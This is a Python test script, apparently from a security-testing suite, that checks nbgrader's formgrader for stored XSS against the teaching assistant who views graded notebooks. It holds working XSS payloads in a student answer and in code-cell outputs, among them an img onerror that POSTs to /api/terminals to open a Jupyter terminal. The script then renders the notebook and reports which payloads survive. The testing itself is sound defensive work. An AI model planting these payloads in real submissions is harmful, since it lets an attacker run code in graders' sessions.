"""a02: stored XSS against the TA in nbgrader's formgrader (README: written answers are graded in `make lab`, Formgrader).
The written-answer markdown cell and a code cell's text/html output carry script; after grading, the autograded
notebook is rendered exactly as formgrader's SubmissionHandler does (HTMLExporter with the course's config,
template 'formgrade'), and we look for live script in the HTML the TA's browser would run."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
XSS_MD = ('My answer: 4x memory.\n\n<img src=x onerror="fetch(\'/api/terminals\',{method:\'POST\'})//XSSIMG">\n\n'
          '<script>/*XSSSCRIPT*/ document.title="pwned"</script>\n\n<svg onload="/*XSSSVG*/1"></svg>\n\n'
          '[click](javascript:alert(/*XSSHREF*/1))\n\n<iframe srcdoc="&lt;script&gt;/*XSSIFRAME*/&lt;/script&gt;"></iframe>\n')
code = sol(A, "training_memory") + r'''
from IPython.display import HTML, Javascript, display, Markdown
display(HTML('<img src=x onerror="/*XSSOUTHTML*/1"><script>/*XSSOUTSCRIPT*/</script>'))
display(Javascript('/*XSSOUTJS*/ 1'))
display(Markdown('<img src=x onerror="/*XSSOUTMD*/1">'))
'''
d = "/tmp/attack30-user-a02"
if "--regrade" in sys.argv or not os.path.exists(d + "/autograded"):
    d = make_course("a02", A, {"mallory": {"training_memory": code, "written_ddp_fit": XSS_MD}})
    grade(d, A)
scores(d, A)
# render as formgrader does
os.chdir(d)
from traitlets.config import Config
from nbgrader.apps import NbGrader
from nbconvert.exporters import HTMLExporter
import nbgrader.server_extensions.formgrader.handlers as handlers
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
from traitlets.config.loader import PyFileConfigLoader
sys.path.insert(0, __import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", "..")))
cfg = PyFileConfigLoader("nbgrader_config.py", path=d).load_config()
extra = Config()
extra.HTMLExporter.template_name = 'formgrade'
extra.HTMLExporter.extra_template_basedirs = [handlers.template_path]
extra.HTMLExporter.exclude_input = False
cfg.merge(extra)
print("sanitize_html in config:", cfg.HTMLExporter.get("sanitize_html"))
exp = HTMLExporter(config=cfg)
html, _ = exp.from_filename(f"{d}/autograded/mallory/{A}/{A}.ipynb",
                            resources={'assignment_id': A, 'notebook_id': A, 'submission_id': 'x', 'index': 0, 'total': 1,
                                       'base_url': '', 'student': 'mallory', 'last_name': '', 'first_name': '',
                                       'notebook_path': '/x'})
open("tests/attacks/round30/user/a02.formgrade.html", "w").write(html)
import re
for tag in ["XSSIMG", "XSSSCRIPT", "XSSSVG", "XSSHREF", "XSSIFRAME", "XSSOUTHTML", "XSSOUTSCRIPT", "XSSOUTJS", "XSSOUTMD"]:
    for m in re.finditer(tag, html):
        print(tag, "CONTEXT:", repr(html[max(0, m.start()-160):m.end()+40]))
        break
    else:
        print(tag, "absent")
# and the student's feedback page, for comparison
fb = open(f"{d}/feedback/mallory/{A}/{A}.html").read()
for tag in ["XSSIMG", "XSSSCRIPT", "XSSSVG", "XSSOUTHTML"]:
    i = fb.find(tag); print("feedback", tag, repr(fb[max(0,i-120):i+20]) if i >= 0 else "absent")
